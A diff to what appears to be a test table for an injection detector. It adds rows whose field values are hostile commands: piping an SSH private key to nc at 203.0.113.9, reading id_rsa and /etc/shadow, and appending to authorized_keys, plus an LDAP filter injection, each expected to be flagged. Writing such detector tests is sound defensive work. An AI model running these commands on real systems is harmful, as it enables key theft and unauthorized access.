@@ -37,6 +37,11 @@ test.each([
   ['a step that connects', { run: "ruby -rsocket -e 'TCPSocket.new(1)'" }, 'command_injection'],
   ['a step that runs a command', { run: "python -c 'import os; os.system(1)'" }, 'command_injection'],
   ['a step that hides its code', { run: 'php -r "eval(base64_decode(1));"' }, 'command_injection'],
+  ['a key that is sent', { comment: 'tar cz ~/.ssh/id_rsa | nc 203.0.113.9 4444' }, 'command_injection'],
+  ['a key that is read', { comment: 'cat ~/.ssh/id_rsa' }, 'command_injection'],
+  ['a key that is let in', { comment: 'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys' }, 'command_injection'],
+  ['an account that is kept', { comment: 'x=$(id);cat /etc/shadow' }, 'command_injection'],
+  ['a filter that leaves its value', { comment: 'filter=ann)(|(uid=*' }, 'ldap_injection'],
   ['a step behind a value', { host: "127.0.0.1;ruby -e 'puts 1'" }, 'command_injection'],
 ])('%s is found among others: %s', (_name, json, type) => {
   expect(typesIn({ ...MORE, ...json })).toContain(type);
